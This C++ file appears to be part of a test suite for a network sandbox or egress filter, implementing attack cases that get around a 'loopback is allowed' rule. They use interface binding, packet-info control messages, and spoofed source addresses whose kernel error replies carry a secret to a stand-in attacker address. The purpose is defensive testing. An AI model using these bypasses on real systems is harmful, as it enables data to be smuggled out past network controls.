// SPDX-License-Identifier: Apache-2.0
// Ways around a destination that stays on the host, and is allowed for that.
#include <arpa/inet.h>
#include <fcntl.h>
#include <net/if.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <type_traits>

#include "tests/attacks/attack.h"

namespace weir::lab {
namespace {

// A loopback destination is allowed because it stays here. These send it out by the interface, which needs no
// privilege.
int LoopbackByDevice(const Aim& aim) {
  const SocketName to = Name(aim.address, aim.port);
  const Fd fd(socket(to.family(), SOCK_DGRAM, 0));
  if (setsockopt(fd.get(), SOL_SOCKET, SO_BINDTODEVICE, "up0", 4)) return kBroken;
  return Errno(sendto(fd.get(), aim.data.data(), aim.data.size(), 0, to.get(), to.length));
}

/// One datagram with an in_pktinfo or in6_pktinfo: out of this interface, or from this address.
template <typename Info>
int SendWith(int fd, const Aim& aim, const Info& info) {
  constexpr bool kV6 = std::is_same_v<Info, in6_pktinfo>;
  const SocketName to = Name(aim.address, aim.port);
  alignas(cmsghdr) char control[CMSG_SPACE(sizeof(info))] = {};
  iovec data{const_cast<char*>(aim.data.data()), aim.data.size()};
  msghdr message{};
  message.msg_name = const_cast<sockaddr*>(to.get());
  message.msg_namelen = to.length;
  message.msg_iov = &data;
  message.msg_iovlen = 1;
  message.msg_control = control;
  message.msg_controllen = sizeof(control);
  cmsghdr* header = CMSG_FIRSTHDR(&message);
  header->cmsg_level = kV6 ? SOL_IPV6 : SOL_IP;
  header->cmsg_type = kV6 ? IPV6_PKTINFO : IP_PKTINFO;
  header->cmsg_len = CMSG_LEN(sizeof(info));
  std::memcpy(CMSG_DATA(header), &info, sizeof(info));
  return Errno(sendmsg(fd, &message, 0));
}

int LoopbackByPacketInfo(const Aim& aim) {
  const int family = Name(aim.address, aim.port).family();
  const Fd fd(socket(family, SOCK_DGRAM, 0));
  if (family == AF_INET6) {
    in6_pktinfo info{};
    info.ipi6_ifindex = if_nametoindex("up0");
    return SendWith(fd.get(), aim, info);
  }
  in_pktinfo info{};
  info.ipi_ifindex = static_cast<int>(if_nametoindex("up0"));
  return SendWith(fd.get(), aim, info);
}

int LoopbackByUnicastInterface(const Aim& aim) {
  const SocketName to = Name(aim.address, aim.port);
  const Fd fd(socket(to.family(), SOCK_DGRAM, 0));
  const std::uint32_t index = htonl(if_nametoindex("up0"));
  if (setsockopt(fd.get(), SOL_IP, 50 /* IP_UNICAST_IF */, &index, sizeof(index))) return kBroken;
  return Errno(sendto(fd.get(), aim.data.data(), aim.data.size(), 0, to.get(), to.length));
}

// The destination stays on the host, and the answer does not: to a closed port, the kernel's error goes to the source
// that the sender has chosen, with what was sent in it.
int ErrorToSomebodyElse(const Aim& aim, const char* source, int level, int option, bool connected) {
  const SocketName from = Name(source, 4444), to = Name(aim.address, aim.port);
  const Fd fd(socket(to.family(), SOCK_DGRAM, 0));
  const int on = 1;
  if (setsockopt(fd.get(), level, option, &on, sizeof(on)) || bind(fd.get(), from.get(), from.length)) return kBroken;
  if (!connected) return Errno(sendto(fd.get(), aim.data.data(), aim.data.size(), 0, to.get(), to.length));
  if (connect(fd.get(), to.get(), to.length)) return errno;
  return Errno(send(fd.get(), aim.data.data(), aim.data.size(), 0));
}

constexpr int kFreeBind6 = 78;    // IPV6_FREEBIND
constexpr int kTransparent = 19;  // IP_TRANSPARENT

int ErrorBySendTo(const Aim& aim) { return ErrorToSomebodyElse(aim, kEvil6, SOL_IPV6, kFreeBind6, false); }
int ErrorByConnected(const Aim& aim) { return ErrorToSomebodyElse(aim, kEvil6, SOL_IPV6, kFreeBind6, true); }

// Hosts of clusters route loopback addresses (route_localnet), which lets IPv4 do it too.
int ErrorOfRoutedLoopback(const Aim& aim) {
  const int file = open("/proc/sys/net/ipv4/conf/all/route_localnet", O_WRONLY);
  const bool set = write(file, "1", 1) == 1;
  const int result = set ? ErrorToSomebodyElse(aim, kEvil, SOL_IP, kTransparent, false) : kBroken;
  if (pwrite(file, "0", 1, 0) != 1) return kBroken;
  close(file);
  return result;
}

// The first datagram goes by the book; the second, to the same place, has another source.
int ErrorOfTheSecondDatagram(const Aim& aim) {
  const SocketName from = Name(kEvil6, 0), to = Name(aim.address, aim.port);
  const Fd fd(socket(AF_INET6, SOCK_DGRAM, 0));
  const int on = 1;
  if (setsockopt(fd.get(), SOL_IPV6, kFreeBind6, &on, sizeof(on))) return kBroken;
  if (sendto(fd.get(), "x", 1, 0, to.get(), to.length) != 1) return kBroken;
  in6_pktinfo info{};
  info.ipi6_addr = reinterpret_cast<const sockaddr_in6*>(from.get())->sin6_addr;
  return SendWith(fd.get(), aim, info);
}

}  // namespace

std::vector<Attack> HostAttacks() {
  return {
      {"LoopbackByDevice", LoopbackByDevice, "127.0.0.1", 9},
      {"LoopbackByDevice6", LoopbackByDevice, "::1", 9},
      {"LoopbackByPacketInfo", LoopbackByPacketInfo, "127.0.0.1", 9},
      {"LoopbackByPacketInfo6", LoopbackByPacketInfo, "::1", 9},
      {"LoopbackByUnicastInterface", LoopbackByUnicastInterface, "127.0.0.1", 9},
      {"ResolverOnLoopbackByDevice", LoopbackByDevice, "127.0.0.53", 53},
      {"ErrorToSomebodyElse", ErrorBySendTo, "::1", 9, kUnprivileged, "leak of the secret", kEvil6},
      {"ErrorToSomebodyElseConnected", ErrorByConnected, "::1", 9, kUnprivileged, "leak of the secret", kEvil6},
      {"ErrorOfTheSecondDatagram", ErrorOfTheSecondDatagram, "::1", 9, kUnprivileged, "leak of the secret", kEvil6},
      {"ErrorOfAQueryToSomebodyElse", ErrorBySendTo, "::1", 53, kUnprivileged, "leak of the secret", kEvil6},
      {"ErrorOfRoutedLoopback", ErrorOfRoutedLoopback, "127.0.0.1", 9, 0, "leak of the secret", kEvil},
  };
}

}  // namespace weir::lab
